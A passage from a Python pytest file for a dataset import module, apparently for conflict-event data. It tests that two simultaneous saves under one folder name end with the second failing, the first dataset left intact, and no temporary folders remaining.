    assert [(e["from"], e["to"]) for e in tables["exact"]] == [(0, MAX_SPAN_DAYS - 1), (MAX_SPAN_DAYS, MAX_SPAN_DAYS)]


def test_an_import_under_a_name_taken_meanwhile_fails_and_replaces_nothing(tmp_path, monkeypatch):
    """Two saves under one slug at once: the second finds the folder made while it was checking its own, and
    fails; the first one's theatre stays exactly as written."""
    first = imports.prepare(config_file(), [GOOD_SNAPSHOT])
    second = imports.prepare(config_file(), [GOOD_SNAPSHOT, acled(acled_row())])
    target = tmp_path / "t"
    real_load = imports.load_dataset

    def load_then_race(folder):  # the other upload lands between our check and our rename
        real_load(folder)
        monkeypatch.setattr(imports, "load_dataset", real_load)
        imports.save(first, target)
        return None

    monkeypatch.setattr(imports, "load_dataset", load_then_race)
    with pytest.raises(DatasetError) as err:
        imports.save(second, target)
    before = tree(target)
    assert err.value.problems[0].file == "t" and "cannot be written" in err.value.problems[0].message
    assert before == tree(tmp_path / "t") and b"SYR1" not in b"".join(before.values())
    assert [p.name for p in tmp_path.iterdir()] == ["t"]  # no temp or swapped-out folders left behind
